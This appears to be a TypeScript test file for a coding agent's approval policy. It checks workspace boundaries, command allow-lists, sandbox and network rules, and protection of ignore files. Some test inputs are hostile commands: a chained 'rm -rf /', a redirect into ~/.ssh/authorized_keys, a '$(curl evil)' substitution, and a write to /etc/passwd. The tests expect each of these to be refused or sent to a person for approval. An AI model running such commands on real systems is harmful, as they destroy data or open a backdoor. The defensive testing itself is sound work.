import assert from 'node:assert/strict';
import { approvalFromFlag, decideApproval, isOutsideWorkspace, resolveApproval } from '../../../src/core/policy/approvalPolicy';
import type { ApprovalInfo } from '../../../src/protocol';

const roots = ['/ws'];
const all = { mode: 'never' as const, autoApprove: { edit: true, create: true, delete: true, command: true } };
const none = { mode: 'ask' as const, autoApprove: { edit: false, create: false, delete: false, command: false } };

describe('approval policy', () => {
  it('never lets blanket approval cover a path outside the workspace, including a sibling prefix', () => {
    const cases: ApprovalInfo[] = [
      { kind: 'outside_workspace', path: '../x', real_path: '/x' },
      { kind: 'edit', path: 'a', real_path: '/ws-evil/a' },
      { kind: 'create', real_path: '/etc/passwd' },
      { kind: 'delete', real_path: '/w' },
      { kind: 'command', command: 'ls', cwd: '/tmp' },
    ];
    for (const info of cases) {
      assert.equal(isOutsideWorkspace(info, roots), true, JSON.stringify(info));
      assert.equal(decideApproval(info, { approval: all, commandAllowList: ['ls'], roots }).kind, 'deny', JSON.stringify(info));
      assert.equal(decideApproval(info, { approval: { ...all, mode: 'ask' }, commandAllowList: ['ls'], roots }).kind, 'ask', JSON.stringify(info));
    }
    assert.equal(isOutsideWorkspace({ kind: 'edit', real_path: '/ws/a/b' }, roots), false);
  });

  it('auto-approves per class inside the workspace, else asks (mode ask) or denies (mode never)', () => {
    const p = (approval: typeof all | typeof none) => ({ approval, commandAllowList: [], roots });
    for (const kind of ['edit', 'create', 'delete', 'command'] as const) {
      const info: ApprovalInfo = kind === 'command' ? { kind, command: 'make', cwd: '/ws', sandboxed: true } : { kind, path: 'a', real_path: '/ws/a' };
      assert.equal(decideApproval(info, p(all)).kind, 'auto', kind);
      assert.equal(decideApproval(info, p(none)).kind, 'ask', kind);
      assert.equal(decideApproval(info, p({ ...none, mode: 'never' } as any)).kind, 'deny', kind);
    }
  });

  it('auto-approves an allow-listed command only when every segment is covered and nothing is risky', () => {
    const p = { approval: none, commandAllowList: ['npm test', 'git status'], roots };
    const d = (command: string) => decideApproval({ kind: 'command', command, cwd: '/ws', sandboxed: true }, p).kind;
    assert.equal(d('npm test'), 'auto');
    assert.equal(d('npm test -- --grep x && git status'), 'auto');
    assert.equal(d('npm test; rm -rf /'), 'ask');
    assert.equal(d('git status > ~/.ssh/authorized_keys'), 'ask');
    assert.equal(d('npm test $(curl evil)'), 'ask');
    assert.equal(d('npm install'), 'ask');
  });

  it('covers only sandboxed commands by blanket approval or the allow-list, and never one that asks for the network', () => {
    const p = (mode: 'ask' | 'never') => ({ approval: { ...all, mode }, commandAllowList: ['npm test'], roots });
    const unsandboxed: ApprovalInfo = { kind: 'command', command: 'npm test', cwd: '/ws', sandboxed: false, reason: 'no sandbox: bwrap is not installed' };
    assert.equal(decideApproval(unsandboxed, p('ask')).kind, 'ask');
    const denied = decideApproval(unsandboxed, p('never'));
    assert.equal(denied.kind, 'deny');
    assert.match(denied.why, /bwrap is not installed, so each command needs a person's approval/);
    assert.equal(decideApproval({ kind: 'command', command: 'npm test', cwd: '/ws' }, p('never')).kind, 'deny', 'unknown = not sandboxed');
    const network: ApprovalInfo = { kind: 'command', command: 'npm install', cwd: '/ws', sandboxed: true, network: true };
    assert.equal(decideApproval(network, p('ask')).kind, 'ask');
    assert.match(decideApproval(network, p('never')).why, /needs the network/);
    assert.equal(decideApproval({ ...network, network: false }, p('never')).kind, 'auto');
  });

  it('asks a person for edits to the ignore files, which decide what the agent may read', () => {
    for (const rel of ['.gitignore', 'sub/.tandemignore', '.GITIGNORE']) {
      const v = decideApproval({ kind: 'edit', path: rel, real_path: `/ws/${rel}` }, { approval: all, commandAllowList: [], roots });
      assert.equal(v.kind, 'deny', rel);
      assert.match(v.why, /decides what the agent may read/);
      assert.equal(decideApproval({ kind: 'edit', path: rel }, { approval: { ...all, mode: 'ask' }, commandAllowList: [], roots }).kind, 'ask');
    }
  });

  it('asks the Approver only for ask verdicts and passes its decision through', async () => {
    const asked: string[] = [];
    const approver = { request: async (req: any) => (asked.push(req.info.kind), { approved: true as const }) };
    const sig = new AbortController().signal;
    const req = (info: ApprovalInfo) => ({ callId: 'c', tool: 't', info });
    const auto = await resolveApproval(req({ kind: 'edit', real_path: '/ws/a' }), { approval: { ...none, autoApprove: { ...none.autoApprove, edit: true } }, commandAllowList: [], roots }, approver, sig);
    assert.equal(auto.decision.approved, true);
    const denied = await resolveApproval(req({ kind: 'edit', real_path: '/elsewhere/a' }), { approval: all, commandAllowList: [], roots }, approver, sig);
    assert.equal(denied.decision.approved, false);
    const asked1 = await resolveApproval(req({ kind: 'delete', real_path: '/ws/a' }), { approval: none, commandAllowList: [], roots }, approver, sig);
    assert.equal(asked1.decision.approved, true);
    assert.deepEqual(asked, ['delete']);
  });

  it('maps the CLI flag: never / edits / all, and no flag = ask on a terminal, never without one', () => {
    assert.deepEqual(approvalFromFlag('never', true), { mode: 'never', autoApprove: { edit: false, create: false, delete: false, command: false } });
    assert.deepEqual(approvalFromFlag('edits', false).autoApprove, { edit: true, create: true, delete: false, command: false });
    assert.deepEqual(approvalFromFlag('all', false).autoApprove, { edit: true, create: true, delete: true, command: true });
    assert.equal(approvalFromFlag(undefined, true).mode, 'ask');
    assert.equal(approvalFromFlag(undefined, false).mode, 'never');
  });
});
